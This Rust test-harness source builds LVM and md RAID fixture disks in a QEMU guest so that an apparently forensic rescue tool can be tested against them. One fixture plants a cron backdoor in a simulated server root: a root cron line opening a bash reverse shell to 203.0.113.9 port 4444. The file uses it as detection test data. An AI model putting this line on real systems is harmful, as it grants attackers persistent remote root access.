//! LVM and md fixture disks made by the real tools (`lvm2`, `mdadm`, `mkfs.ext4`, `mkfs.xfs`).
//!
//! The host kernel of a build box may lack device-mapper and md, so the disks are made inside a QEMU
//! guest: the build's kernel boots the rescue initramfs (for its kernel modules and `modprobe`) with a
//! second cpio appended that holds busybox, the tools with their library closure and a script run as
//! `rdinit`. The script creates the volumes on virtio disks, writes the known files, tears everything
//! down and powers off. The images are cached under `target/cache/storage-fixtures/KEY`, where KEY
//! hashes the tool package versions, the kernel and the script (built in a temp dir, then renamed).

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use anyhow::{Context, bail};
use sha2::Digest;

use crate::{Artifacts, Boot, Bus, Disk, QemuBuilder};

/// One disk of the fixture set: file name and size in MiB, in the order the guest sees them (vda, vdb…).
pub const DISKS: &[(&str, u64)] = &[
    ("lvm-pv0.img", 200),
    ("lvm-pv1.img", 200),
    ("md-r1-a.img", 32),
    ("md-r1-b.img", 32),
    ("md-r5-a.img", 32),
    ("md-r5-b.img", 32),
    ("md-r5-c.img", 32),
    ("md-090-a.img", 16),
    ("md-090-b.img", 16),
    ("md-10-a.img", 16),
    ("md-10-b.img", 16),
    ("md-11-a.img", 16),
    ("md-11-b.img", 16),
    ("md-lvm-a.img", 48),
    ("md-lvm-b.img", 48),
];

/// The volume group and its logical volumes (LVM names; the dash in each doubles in `/dev/mapper`).
pub const VG: &str = "forensic-vg";
/// Linear LV (three segments over both PVs), ext4.
pub const LV_LINEAR: &str = "root";
/// Striped LV (2 stripes, 64 KiB), XFS.
pub const LV_STRIPED: &str = "data-striped";

/// LVM on md: a RAID1 (metadata 1.2) of the last two disks is the one PV of this VG, whose LV holds a
/// small server root (ext4) with the known files, an `os-release` and a planted cron backdoor.
pub const MD_LVM_ARRAY: &str = "raidpv";
/// The VG on [`MD_LVM_ARRAY`] and its one LV (`/dev/mapper/raidvg-root`).
pub const MD_LVM_VG: &str = "raidvg";
pub const MD_LVM_LV: &str = "root";
/// The member disk indexes of [`MD_LVM_ARRAY`].
pub const MD_LVM_MEMBERS: [usize; 2] = [13, 14];
/// The planted persistence on the LVM-on-md root (relative to it) and its line.
pub const MD_LVM_BACKDOOR: &str = "etc/cron.d/backdoor";
pub const MD_LVM_BACKDOOR_LINE: &str =
    "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n";

/// `/dev/vdX` of disk index `i` as the guest and the rescue system name it.
pub fn vd(i: usize) -> String {
    format!("/dev/vd{}", (b'a' + i as u8) as char)
}

/// md arrays: name, level, metadata version, member disk indexes.
pub const ARRAYS: &[(&str, &str, &str, &[usize])] = &[
    ("r1", "1", "1.2", &[2, 3]),
    ("r5", "5", "1.2", &[4, 5, 6]),
    ("m090", "1", "0.90", &[7, 8]),
    ("m10", "0", "1.0", &[9, 10]),
    ("m11", "10", "1.1", &[11, 12]),
];

/// Every filesystem holds `known.txt` (this text with its name, see [`known_text`]) and `numbers.txt`
/// (`seq 1 100000`, see [`numbers_text`]), large enough to cross stripes and chunks.
pub fn known_text(fs_name: &str) -> String {
    format!("rescue storage fixture {fs_name}\n")
}

/// `seq 1 100000`.
pub fn numbers_text() -> String {
    (1..=100_000).map(|n| format!("{n}\n")).collect()
}

/// The script the guest runs as `rdinit` (busybox sh).
fn script() -> String {
    let mut s = r#"#!/bin/busybox sh
/bin/busybox --install -s /bin
export PATH=/bin:/sbin
mount -t proc proc /proc
mount -t sysfs sysfs /sys
mount -t devtmpfs devtmpfs /dev
mkdir -p /tmp /run/lvm /run/lock/lvm /run/mdadm /mnt
mount -t tmpfs tmpfs /tmp
fail() { echo "STORAGE-FIXTURE-FAILED: $*"; sync; poweroff -f; }
@UEVENTS@uevents_start
for m in virtio_pci virtio_blk dm_mod md_mod raid0 raid1 raid10 raid456 ext4 xfs; do
  /sbin/modprobe $m || fail "modprobe $m"
done
[ -b LASTDISK ] || uevent_wait "add LASTNAME" || fail "disks did not appear"
uevents_stop
LVMCONF='activation{udev_sync=0 udev_rules=0} devices{obtain_device_list_from_udev=0}'
lv() { lvm "$@" --config "$LVMCONF" || fail "lvm $*"; }
files() {
  mkdir -p /tmp/files-$1
  echo "rescue storage fixture $1" > /tmp/files-$1/known.txt
  seq 1 100000 > /tmp/files-$1/numbers.txt
}
lv pvcreate -y /dev/vda /dev/vdb
lv vgcreate -y -s 4m forensic-vg /dev/vda /dev/vdb
lv lvcreate -y -n root -L 32m forensic-vg /dev/vda
lv lvcreate -y -n data-striped -i 2 -I 64k -L 320m forensic-vg
lv lvextend -y -L +8m forensic-vg/root
files lvm-root
mkfs.ext4 -q -F -d /tmp/files-lvm-root /dev/mapper/forensic--vg-root || fail mkfs root
files lvm-data
mkfs.xfs -q -f /dev/mapper/forensic--vg-data--striped || fail mkfs.xfs
mount -t xfs /dev/mapper/forensic--vg-data--striped /mnt || fail mount xfs
cp /tmp/files-lvm-data/* /mnt/ || fail cp
umount /mnt || fail umount xfs
lv lvs -a -o lv_name,lv_uuid,segtype,stripes,stripe_size,seg_pe_ranges forensic-vg
lv pvs -o pv_name,pv_uuid,pe_start
lv vgs -o vg_name,vg_uuid,seqno,vg_extent_size
lv vgchange -a n forensic-vg
"#
    .replace("@UEVENTS@", crate::GUEST_UEVENTS_SH);
    for (i, (name, level, meta, members)) in ARRAYS.iter().enumerate() {
        let devs: Vec<String> = members
            .iter()
            .map(|m| format!("/dev/vd{}", (b'a' + *m as u8) as char))
            .collect();
        // RAID1 has no chunks; mdadm refuses --chunk for it.
        let chunk = if *level == "1" { "" } else { "--chunk=64 " };
        // 0.90 has no name field; mdadm names such an array by its preferred minor (mdN).
        let name_arg = if *meta == "0.90" {
            String::new()
        } else {
            format!("--name={name} --homehost=fixture ")
        };
        s.push_str(&format!(
            "mdadm --create /dev/md{i} --run --level={level} --metadata={meta} {name_arg}\
             --raid-devices={} {chunk}{} </dev/null || fail mdadm {name}\n\
             mdadm --wait /dev/md{i}\n\
             files md-{name}\n\
             mkfs.ext4 -q -F -d /tmp/files-md-{name} /dev/md{i} || fail mkfs {name}\n\
             sync\nmdadm --wait /dev/md{i}\nmdadm --detail /dev/md{i}\n\
             mdadm --examine {}\n\
             mdadm --stop /dev/md{i} || fail stop {name}\n",
            members.len(),
            devs.join(" "),
            devs.join(" ")
        ));
    }
    // LVM on md: the RAID1 is made and synced first, then the PV goes on the array, not on a member.
    let [a, b] = MD_LVM_MEMBERS.map(vd);
    let root = "/tmp/files-lvm-md";
    s.push_str(&format!(
        "mdadm --create /dev/md9 --run --level=1 --metadata=1.2 --name={MD_LVM_ARRAY} \
         --homehost=fixture --raid-devices=2 {a} {b} </dev/null || fail mdadm {MD_LVM_ARRAY}\n\
         mdadm --wait /dev/md9\n\
         lv pvcreate -y /dev/md9\n\
         lv vgcreate -y -s 4m {MD_LVM_VG} /dev/md9\n\
         lv lvcreate -y -n {MD_LVM_LV} -L 24m {MD_LVM_VG}\n\
         files lvm-md\n\
         mkdir -p {root}/etc/cron.d {root}/usr/bin {root}/var/log\n\
         printf 'NAME=\"Rocky Linux\"\\nID=rocky\\nVERSION_ID=9.4\\n' > {root}/etc/os-release\n\
         printf '\\177ELF true' > {root}/usr/bin/true\n\
         cat > {root}/{MD_LVM_BACKDOOR} <<'EOF'\n{MD_LVM_BACKDOOR_LINE}EOF\n\
         mkfs.ext4 -q -F -d {root} /dev/mapper/{MD_LVM_VG}-{MD_LVM_LV} || fail mkfs lvm-md\n\
         lv lvs -o lv_name,lv_uuid,devices {MD_LVM_VG}\n\
         lv pvs -o pv_name,pv_uuid,pe_start\n\
         lv vgchange -a n {MD_LVM_VG}\n\
         sync\nmdadm --wait /dev/md9\nmdadm --detail /dev/md9\nmdadm --examine {a} {b}\n\
         mdadm --stop /dev/md9 || fail stop {MD_LVM_ARRAY}\n"
    ));
    s.push_str("cat /proc/mdstat\nsync\necho STORAGE-FIXTURE-OK\npoweroff -f\n");
    let last = vd(DISKS.len() - 1);
    s.replace("LASTDISK", &last)
        .replace("LASTNAME", last.trim_start_matches("/dev/"))
}

const TOOLS: &[&str] = &["busybox", "lvm", "mdadm", "mkfs.ext4", "mkfs.xfs"];
const PACKAGES: &[&str] = &["busybox", "lvm2", "mdadm", "e2fsprogs", "xfsprogs"];
const PROGRAM_DIRS: &[&str] = &["/usr/sbin", "/sbin", "/usr/bin", "/bin"];
const LIBRARY_DIRS: &[&str] = &[
    "/lib/x86_64-linux-gnu",
    "/usr/lib/x86_64-linux-gnu",
    "/lib64",
    "/usr/lib64",
];

/// The fixture disks, made (or found in the cache) for the build in `art`.
#[derive(Debug, Clone)]
pub struct StorageFixtures {
    pub dir: PathBuf,
}

impl StorageFixtures {
    /// The path of disk `name` (one of [`DISKS`]).
    pub fn disk(&self, name: &str) -> PathBuf {
        self.dir.join(name)
    }
}

fn package_versions() -> anyhow::Result<String> {
    let out = Command::new("dpkg-query")
        .args(["-W", "-f", "${Package} ${Version}\\n"])
        .args(PACKAGES)
        .output()
        .context("running dpkg-query")?;
    if !out.status.success() {
        bail!(
            "dpkg-query -W {}: {} (install them: apt-get install {})",
            PACKAGES.join(" "),
            String::from_utf8_lossy(&out.stderr).trim(),
            PACKAGES.join(" ")
        );
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

fn cache_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/cache/storage-fixtures")
}

/// Makes the fixture disks with the kernel and initramfs of `art`, or returns the cached ones.
pub fn storage_fixtures(art: &Artifacts) -> anyhow::Result<StorageFixtures> {
    let script = script();
    let mut key = sha2::Sha256::new();
    key.update(package_versions()?.as_bytes());
    key.update(script.as_bytes());
    key.update(crate::sha256_file(&art.vmlinuz())?.as_bytes());
    let key: String = key.finalize()[..8]
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let root = cache_root();
    let dir = root.join(&key);
    if DISKS.iter().all(|(n, _)| dir.join(n).is_file()) {
        return Ok(StorageFixtures { dir });
    }
    fs::create_dir_all(&root).with_context(|| format!("creating {}", root.display()))?;
    let tmp = tempfile::Builder::new()
        .prefix(&format!(".{key}-"))
        .tempdir_in(&root)?;
    let initrd = tmp.path().join("initrd");
    write_initrd(&art.initramfs(), &script, &initrd)?;
    let mut vm = QemuBuilder::new(
        Boot::Direct {
            kernel: art.vmlinuz(),
            initrd,
            cmdline: "console=ttyS0,115200n8 rdinit=/storage-fixture panic=-1 no_timer_check \
                      cryptomgr.notests raid=noautodetect"
                .to_owned(),
        },
        tmp.path(),
    );
    let images = tmp.path().join("images");
    fs::create_dir(&images)?;
    for (name, mib) in DISKS {
        let p = images.join(name);
        fs::File::create(&p)?.set_len(mib << 20)?;
        vm = vm.disk(Disk::new(p, Bus::Virtio));
    }
    let mut q = vm.spawn()?;
    q.expect("STORAGE-FIXTURE-", Duration::from_secs(1200))?;
    let rest = q.expect("\n", Duration::from_secs(10))?;
    q.check(
        rest.starts_with("OK"),
        "the fixture guest failed to make the LVM/md disks",
    )?;
    q.wait_exit(Duration::from_secs(120))?;
    fs::write(images.join("guest.log"), q.log())?;
    let _ = fs::remove_dir_all(&dir);
    fs::rename(&images, &dir)
        .with_context(|| format!("moving the fixtures to {}", dir.display()))?;
    Ok(StorageFixtures { dir })
}

fn find_program(name: &str) -> anyhow::Result<PathBuf> {
    PROGRAM_DIRS
        .iter()
        .map(|d| Path::new(d).join(name))
        .find(|p| p.is_file())
        .with_context(|| format!("{name} not found (apt-get install {})", PACKAGES.join(" ")))
}

/// The rescue initramfs followed by a cpio with the tools, their libraries and the script.
fn write_initrd(base: &Path, script: &str, out: &Path) -> anyhow::Result<()> {
    let mut bytes = fs::read(base).with_context(|| format!("reading {}", base.display()))?;
    while !bytes.len().is_multiple_of(4) {
        bytes.push(0);
    }
    let mut archive = initramfs::cpio::Archive::new();
    for d in [
        "bin",
        "sbin",
        "lib",
        "lib64",
        "lib/x86_64-linux-gnu",
        "mnt",
        "tmp",
        "run",
        "etc",
    ] {
        archive.add_dir(d, 0o755);
    }
    let mut roots = Vec::new();
    for t in TOOLS {
        let p = find_program(t)?;
        let real = fs::canonicalize(&p)?;
        let data = fs::read(&real).with_context(|| format!("reading {}", real.display()))?;
        roots.push((t, data));
    }
    let closure = initramfs::elf::library_closure(
        &roots.iter().map(|(_, b)| b.as_slice()).collect::<Vec<_>>(),
        |lib| {
            LIBRARY_DIRS.iter().find_map(|d| {
                let p = fs::canonicalize(Path::new(d).join(lib)).ok()?;
                Some((lib.to_owned(), fs::read(p).ok()?))
            })
        },
    )?;
    if !closure.missing.is_empty() {
        bail!("libraries not found: {}", closure.missing.join(", "));
    }
    for (name, data) in roots {
        let dir = if *name == "busybox" { "bin" } else { "sbin" };
        archive.add_file(&format!("{dir}/{name}"), 0o755, data);
    }
    for (name, data) in closure.libraries {
        archive.add_file(&format!("lib/x86_64-linux-gnu/{name}"), 0o755, data);
    }
    for interp in closure.interpreters {
        let data = fs::read(fs::canonicalize(&interp)?)?;
        archive.add_file(interp.trim_start_matches('/'), 0o755, data);
    }
    archive.add_symlink("etc/mtab", "/proc/self/mounts");
    archive.add_file("storage-fixture", 0o755, script.as_bytes().to_vec());
    archive.write(&mut bytes, 0)?;
    fs::write(out, bytes).with_context(|| format!("writing {}", out.display()))
}
